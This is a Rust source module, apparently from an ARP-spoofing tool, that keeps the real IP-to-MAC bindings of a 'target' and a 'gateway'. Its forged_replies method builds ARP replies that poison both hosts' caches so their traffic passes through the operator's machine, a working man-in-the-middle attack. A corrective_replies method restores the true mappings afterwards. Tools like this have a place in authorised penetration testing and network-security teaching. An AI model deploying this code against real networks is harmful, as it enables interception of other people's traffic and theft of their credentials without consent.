//! Host bindings and the ledger holding the two monitored hosts.

use std::fmt;
use std::net::Ipv4Addr;

use macaddr::MacAddr6;

use super::ArpFrame;

/// A host's true protocol-to-hardware mapping as observed at startup.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct HostBinding {
    pub protocol_address: Ipv4Addr,
    pub hardware_address: MacAddr6,
}

impl HostBinding {
    pub fn new(protocol_address: Ipv4Addr, hardware_address: MacAddr6) -> Self {
        Self {
            protocol_address,
            hardware_address,
        }
    }
}

impl fmt::Display for HostBinding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} at {}", self.protocol_address, self.hardware_address)
    }
}

/// Last-known-good bindings for the target and the gateway.
///
/// Written once before any engine starts and shared read-only afterwards.
/// Frames are only ever built when both bindings are present.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct BindingLedger {
    target: Option<HostBinding>,
    gateway: Option<HostBinding>,
}

impl BindingLedger {
    /// A ledger with no bindings, as it exists before resolution.
    pub fn empty() -> Self {
        Self::default()
    }

    pub fn new(target: HostBinding, gateway: HostBinding) -> Self {
        Self {
            target: Some(target),
            gateway: Some(gateway),
        }
    }

    pub fn target(&self) -> Option<&HostBinding> {
        self.target.as_ref()
    }

    pub fn gateway(&self) -> Option<&HostBinding> {
        self.gateway.as_ref()
    }

    pub fn is_complete(&self) -> bool {
        self.target.is_some() && self.gateway.is_some()
    }

    fn both(&self) -> Option<(&HostBinding, &HostBinding)> {
        Some((self.target.as_ref()?, self.gateway.as_ref()?))
    }

    /// Forged replies redirecting both hosts to `operator_mac`.
    ///
    /// The first frame tells the gateway that the target's address is at
    /// the operator; the second tells the target the same about the gateway.
    pub fn forged_replies(&self, operator_mac: MacAddr6) -> Option<[ArpFrame; 2]> {
        let (target, gateway) = self.both()?;
        Some([
            ArpFrame::reply(
                operator_mac,
                operator_mac,
                target.protocol_address,
                gateway.hardware_address,
                gateway.protocol_address,
            ),
            ArpFrame::reply(
                operator_mac,
                operator_mac,
                gateway.protocol_address,
                target.hardware_address,
                target.protocol_address,
            ),
        ])
    }

    /// Corrective replies reasserting the original mappings.
    ///
    /// Same addressing as `forged_replies`, but the sender hardware address
    /// is each host's real one.
    pub fn corrective_replies(&self, operator_mac: MacAddr6) -> Option<[ArpFrame; 2]> {
        let (target, gateway) = self.both()?;
        Some([
            ArpFrame::reply(
                operator_mac,
                target.hardware_address,
                target.protocol_address,
                gateway.hardware_address,
                gateway.protocol_address,
            ),
            ArpFrame::reply(
                operator_mac,
                gateway.hardware_address,
                gateway.protocol_address,
                target.hardware_address,
                target.protocol_address,
            ),
        ])
    }
}
